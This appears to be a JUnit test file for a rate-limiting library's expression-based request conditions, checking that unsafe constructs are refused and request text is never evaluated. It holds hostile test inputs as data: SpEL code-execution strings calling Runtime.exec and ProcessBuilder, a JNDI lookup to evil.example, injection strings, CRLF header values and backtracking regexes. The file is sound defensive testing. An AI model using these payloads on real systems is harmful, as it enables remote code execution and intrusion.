package dev.ratelimit.web.condition;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

import dev.ratelimit.fixture.Beans;
import dev.ratelimit.fixture.MovableClock;
import dev.ratelimit.rule.InvalidRuleException;
import dev.ratelimit.rule.RLConfig;
import dev.ratelimit.rule.Stage;
import dev.ratelimit.web.key.ClientAddresses;
import dev.ratelimit.web.servlet.ServletRequestFacts;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.mock.web.MockHttpServletRequest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

@ExtendWith(OutputCaptureExtension.class)
class ExpressionConditionTests {

	private static final String FAILED = "could not be evaluated";

	private final MovableClock clock = new MovableClock();

	private final MockHttpServletRequest request = new MockHttpServletRequest("POST", "/orders/7");

	private CompiledCondition compile(String when) {
		RLConfig rule = RLConfig.builder("r").paths("/orders/{id}", "/all").thresholds("1/s").when(when).build();
		return CompiledCondition.of(rule, Beans.NONE, this.clock::nanoTime);
	}

	private boolean matches(CompiledCondition condition) {
		return condition.matches(
				new ServletRequestFacts(this.request, "/orders/7", new ClientAddresses(List.of(), false)),
				Map.of("id", "7"));
	}

	private boolean matches(String when) {
		return matches(compile(when));
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
			method == 'POST' | true
			method == 'GET' | false
			method eq 'GET' or path == '/orders/7' | true
			headers['X-Plan'] == 'gold' and method == 'POST' | true
			headers["x-plan"] != 'gold' | false
			headers['X-Twice'] == 'one' | true
			headers['X-Blank'] == null | true
			headers['X-Absent'] == null | true
			headers['X-Absent'] == 'gold' | false
			headers['X-Absent'] != 'gold' | true
			!(headers['X-Plan'] == 'gold') | false
			not (query['page'] == '2 3') | false
			query['page'] == '2 3' | true
			query['PAGE'] == null | true
			pathVariables['id'] == '7' | true
			principal == 'alice' | true
			principal != null | true
			path matches '/orders/[0-9]+' | true
			path matches 'orders' | false
			(headers['X-Absent'] ?: '') matches '.*bot.*' | false
			(headers['X-Absent'] ?: 'a bot') matches '.*bot.*' | true
			headers?.['X-Plan'] == 'gold' | true
			true | true
			false | false
			""")
	void comparesFactsOfTheRequest(String when, boolean applies) {
		this.request.addHeader("X-Plan", "gold");
		this.request.addHeader("X-Twice", "one");
		this.request.addHeader("X-Twice", "two");
		this.request.addHeader("X-Blank", " ");
		this.request.setQueryString("page=2%203&page=4");
		this.request.setUserPrincipal(() -> "alice");
		assertThat(matches(when)).isEqualTo(applies);
	}

	@Test
	void anAnonymousRequestHasNoPrincipal() {
		assertThat(matches("principal == null")).isTrue();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
			T(java.lang.Runtime).getRuntime().exec('id') != null | uses what no condition can at character
			T(java.lang.Runtime) == null | uses what no condition can at character 1: T(java.lang.Runtime)
			new java.lang.String('x') == 'x' | uses what no condition can at character 1
			new ProcessBuilder('id').start() == null | uses what no condition can
			@environment == null | uses what no condition can at character 2: @environment
			&environment == null | uses what no condition can at character 1
			`#root == null` | uses what no condition can at character 1
			`#this.method == 'GET'` | uses what no condition can
			`#anything == 'x'` | uses what no condition can at character 1
			`#call('x')` | uses what no condition can at character 1
			method = 'GET' | uses what no condition can at character
			headers['X-Plan'] = 'gold' | uses what no condition can
			method++ == 'x' | uses what no condition can
			--method == 'x' | uses what no condition can
			-method == 'x' | uses what no condition can
			method + path == 'x' | uses what no condition can at character
			method * 3 == 'x' | uses what no condition can
			method.length() == '3' | uses what no condition can
			path.startsWith('/x') | uses what no condition can at character
			toString() == 'x' | uses what no condition can
			method.class == 'x' | uses what no condition can
			class == null | names a fact that there is not at character 1: class
			request == null | names a fact that there is not at character 1: request
			body['x'] == '1' | names a fact that there is not
			headers.host == 'a' | uses what no condition can
			headers['X'].bytes == 'a' | uses what no condition can
			headers['X']['Y'] == 'a' | uses what no condition can
			headers == null | needs a name in brackets behind it, such as headers['NAME'], at character 1
			headers[method] == 'a' | needs a name in quotes between its brackets at character
			headers[0] == 'a' | needs a name in quotes between its brackets
			headers[T(x.Y)] == 'a' | needs a name in quotes between its brackets
			headers['X Plan'] == 'a' | names a header that can never occur at character
			method['x'] == 'a' | names a fact that there is not
			pathVariables['org'] == 'a' | names a variable that no path of the rule has at character
			headers.![#this] == null | uses what no condition can
			headers.?[method == 'x'] == null | uses what no condition can
			{'GET', 'HEAD'} == null | uses what no condition can at character 1
			{a:'b'} == null | uses what no condition can at character 1
			method instanceof T(String) | uses what no condition can
			method between {'A', 'Z'} | uses what no condition can
			query['page'] > '10' | uses what no condition can
			query['page'] == 10 | compares a number, but all facts are texts: write it in quotes at character 18: 10
			query['page'] == 1.5 | compares a number
			query['page'] == 10L | compares a number
			query['page'] == true | compares a text with true or false at character
			method == 'x' ? true : false | uses what no condition can
			method | is a text where it needs true or false at character 1: method
			'true' | is a text where it needs true or false at character 1
			null | is null where it needs true or false at character 1
			method and true | is a text where it needs true or false at character 1
			!method | is a text where it needs true or false at character 2
			true matches 'x' | is true or false where it needs a text
			null matches 'x' | is null where it needs a text
			'x' matches headers['X'] | needs a regular expression in quotes at character
			'x' matches method | needs a regular expression in quotes at character 13: method
			path matches '[a' | has a regular expression that is none (Unclosed character class) at character 14
			true ?: 'x' | is true or false where it needs a text
			method == | is no expression at character
			method == 'x | is no expression at character 11
			`#{method == 'x'}` | is no expression at character
			method == 'x' method | is no expression at character 15
			${user.home} == 'x' | is no expression at character
			""")
	void anInvalidConditionStopsTheStartAndNamesPartPlaceAndCure(String when, String reason) {
		InvalidRuleException refusal = catchThrowableOfType(InvalidRuleException.class, () -> compile(when));
		assertThat(refusal).as(when).isNotNull();
		assertThat(refusal.property()).isEqualTo("when");
		assertThat(refusal.value()).isEqualTo(when);
		assertThat(refusal.reason()).startsWith(reason);
		assertThat(refusal.cure()).startsWith("Write for example headers['X-Plan'] == 'gold' and method == 'POST'");
	}

	@Test
	void anEmptyExpressionIsRefused() {
		assertThatExceptionOfType(InvalidRuleException.class).isThrownBy(() -> compile(" "))
			.withMessageContaining("is empty");
	}

	@Test
	void aRegularExpressionIsNoLongerThanSpelTakes() {
		assertThat(matches("path matches '%s'".formatted("a".repeat(1000)))).isFalse();
		assertThatExceptionOfType(InvalidRuleException.class)
			.isThrownBy(() -> compile("path matches '%s'".formatted("a".repeat(1001))))
			.withMessageContaining("more than 1000 characters");
	}

	@Test
	void aConditionOnThePrincipalIsRefusedBeforeSecurity() {
		RLConfig rule = RLConfig.builder("r")
			.paths("/**")
			.thresholds("1/s")
			.stage(Stage.BEFORE_SECURITY)
			.when("principal == null")
			.build();
		assertThatExceptionOfType(InvalidRuleException.class)
			.isThrownBy(() -> CompiledCondition.of(rule, Beans.NONE, this.clock::nanoTime))
			.withMessageContaining("asks for the user, who is known only behind Spring Security");
	}

	@Test
	void everyTextIsAConditionOrRefused() {
		List<String> parts = List.of("method", "headers", "['X']", "'a'", "==", "!=", "matches", "?:", "?", ":", "(",
				")", "and", "or", "not", "!", "T(String)", "new", "@b", "#v", "#{", "}", "{", "[", "]", ".", "?.",
				".?[", "^", "1", "null", "true", "=", "++", "+", "*", "instanceof", "&b", "\\", "\u0000", "\r\n", "\"",
				"'", ",");
		SplittableRandom random = new SplittableRandom(7);
		for (int i = 0; i < 20_000; i++) {
			StringBuilder when = new StringBuilder();
			for (int part = random.nextInt(1, 8); part > 0; part--) {
				when.append(parts.get(random.nextInt(parts.size()))).append(random.nextBoolean() ? " " : "");
			}
			try {
				matches(compile(when.toString()));
			}
			catch (InvalidRuleException ex) {
				assertThat(ex.property()).isEqualTo("when");
			}
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "T(java.lang.Runtime).getRuntime().exec('id')", "#{T(java.lang.Runtime)}", "${jndi:x}",
			"${jndi:ldap://evil.example/a}", "' or true or '", "gold' or 'a' == 'a", "true", "@environment", "\r\nX: y",
			"new java.lang.String('gold')", "\u0000", "\ud800", "headers['X-Plan']" })
	void aTextOfTheRequestIsNeverAPartOfTheExpression(String hostile, CapturedOutput output) {
		this.request.addHeader("X-Plan", hostile);
		this.request.setQueryString("plan=" + hostile);
		this.request.setUserPrincipal(() -> hostile);
		assertThat(matches("headers['X-Plan'] == 'gold' or query['plan'] == 'gold' or principal == 'gold'")).isFalse();
		assertThat(matches("headers['X-Plan'] matches 'gold'")).isFalse();
		assertThat(matches("headers['X-Plan'] != null and principal != null")).isTrue();
		assertThat(output).doesNotContain(FAILED);
	}

	@Test
	void aFailingConditionAppliesAndIsLoggedOnceAMinuteWithoutClientText(CapturedOutput output) {
		this.request.addHeader("X-Client", "\r\nevil");
		CompiledCondition absent = compile("headers['X-Absent'] matches 'a' and headers['X-Client'] == 'a'");
		assertThat(matches(absent)).isTrue();
		assertThat(matches(absent)).isTrue();
		assertThat(output).containsOnlyOnce("The condition (when) of rate limit rule 'r' " + FAILED)
			.doesNotContain("evil");
		this.clock.advance(Duration.ofMinutes(1));
		assertThat(matches(absent)).isTrue();
		assertThat(output.getOut().split(FAILED, -1)).hasSize(3);
	}

	@ParameterizedTest
	@ValueSource(strings = { "(a+)+b", "(a|aa)+b", "(a|b)*c" })
	void aClientCannotMakeARegularExpressionRunForEverNorEscapeByIt(String regex) {
		this.request.addHeader("X-Client", "a".repeat(20_000));
		assertThat(matches("headers['X-Client'] matches '" + regex + "'")).isTrue();
	}

	@Test
	void readsOnlyTheFactsItNeeds() {
		MockHttpServletRequest unreadable = new MockHttpServletRequest("GET", "/") {

			@Override
			public String getHeader(String name) {
				throw new AssertionError("read " + name);
			}

		};
		CompiledCondition condition = compile("method == 'POST' and headers['X-Client'] == 'a'");
		assertThat(condition.matches(new ServletRequestFacts(unreadable, "/", new ClientAddresses(List.of(), false)),
				Map.of()))
			.isFalse();
	}

	@ParameterizedTest
	@CsvSource({ "pathVariables['id'] == '7', true", "method == 'GET', false" })
	void reportsWhetherVariablesHaveToBeExtracted(String when, boolean uses) {
		assertThat(compile(when).usesPathVariables()).isEqualTo(uses);
	}

	@Test
	void aBeanMayDecideInstead() {
		Beans beans = new Beans(Map.of("posts", (RequestCondition) (facts) -> "POST".equals(facts.method())));
		RLConfig rule = RLConfig.builder("r").thresholds("1/s").when("bean:posts").build();
		assertThat(matches(CompiledCondition.of(rule, beans, this.clock::nanoTime))).isTrue();
		this.request.setMethod("GET");
		assertThat(matches(CompiledCondition.of(rule, beans, this.clock::nanoTime))).isFalse();
	}

	@Test
	void whereABeanThrowsTheRuleApplies() {
		Beans beans = new Beans(Map.of("broken", (RequestCondition) (facts) -> {
			throw new IllegalStateException("no idea");
		}));
		RLConfig rule = RLConfig.builder("r").thresholds("1/s").when("bean:broken").build();
		assertThat(matches(CompiledCondition.of(rule, beans, this.clock::nanoTime))).isTrue();
		assertThat(beans.failures()).containsExactly("r when");
	}

}
